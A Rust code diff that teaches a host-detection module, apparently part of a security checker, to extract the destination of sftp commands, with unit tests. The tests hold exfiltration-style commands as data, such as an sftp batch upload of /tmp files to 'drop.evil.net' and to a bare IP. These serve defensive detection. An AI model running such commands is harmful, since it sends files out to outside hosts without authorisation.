@@ -115,6 +115,14 @@ static SCP_HOST: LazyLock<Regex> = LazyLock::new(|| {
         .expect("static regex")
 });
 
+/// The destination of an interactive or batch `sftp`, written without a path
+/// (`sftp -b put.txt bob@drop.example.net`): the first word after the
+/// command and its flags (those of them that take a value, with it).
+static SFTP_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:^|[\s;&|(])sftp(?:\.exe)?(?:\s+-[1246AaCfNpqrv]+|\s+-[BbcDFiJloPRSX]\s*\S+)*\s+(?:[^\s@'"/:]+@)?([A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})(?:\s|$)"#)
+        .expect("static regex")
+});
+
 /// Flags whose quoted value is a payload or a message, not a destination:
 /// hosts named inside it (`-d '{"url": "https://..."}'`, `-m 'see https://...'`,
 /// `-H 'Origin: https://...'`) are not where the command sends anything.
@@ -228,7 +236,8 @@ fn is_local_ip(ip: IpAddr) -> bool {
 
 /// True when `pred` holds for a host the value names: the value itself when
 /// it is a bare host (`mcp.slack.com`, `host:443`), else every URL host,
-/// every scp/rsync style `user@host:path` destination, and every host
+/// every scp/rsync style `user@host:path` destination, the host an `sftp`
+/// connects to, and every host
 /// written without a scheme but with a path or a port
 /// (`paste.example.net/api`, `203.0.113.5 4444`) in it (a command line).
 /// In a command line, hosts inside a quoted payload or message
@@ -265,6 +274,15 @@ pub(crate) fn any_host<'a>(text: &'a str, mut pred: impl FnMut(&'a str) -> bool)
     }
     if t.contains(':') {
         for c in SCP_HOST.captures_iter(t) {
+            if let Some(m) = c.get(1) {
+                if !in_payload(m.start()) && pred(m.as_str()) {
+                    return true;
+                }
+            }
+        }
+    }
+    if t.contains("sftp") || t.contains("SFTP") {
+        for c in SFTP_HOST.captures_iter(t) {
             if let Some(m) = c.get(1) {
                 if !in_payload(m.start()) && pred(m.as_str()) {
                     return true;
@@ -386,6 +404,25 @@ mod tests {
             extract_hosts("curl https://user:pw@h.example.com:8443/x"),
             vec!["h.example.com"]
         );
+    }
+
+    #[test]
+    fn sftp_names_its_host_without_a_path() {
+        assert_eq!(
+            extract_hosts("sftp -b /tmp/put.txt bob@drop.evil.net"),
+            vec!["drop.evil.net"]
+        );
+        assert_eq!(
+            extract_hosts("echo 'put /tmp/d.tgz' | sftp -P 2222 -C 198.51.100.4"),
+            vec!["198.51.100.4"]
+        );
+        assert_eq!(
+            extract_hosts("SFTP.exe -i C:\\k user@files.example.org"),
+            vec!["files.example.org"]
+        );
+        // A host name in the batch file's name, or a single-label LAN name, is not one.
+        assert!(extract_hosts("sftp -b upload.example.txt nas").is_empty());
+        assert!(extract_hosts("man sftp").is_empty());
     }
 
     #[test]
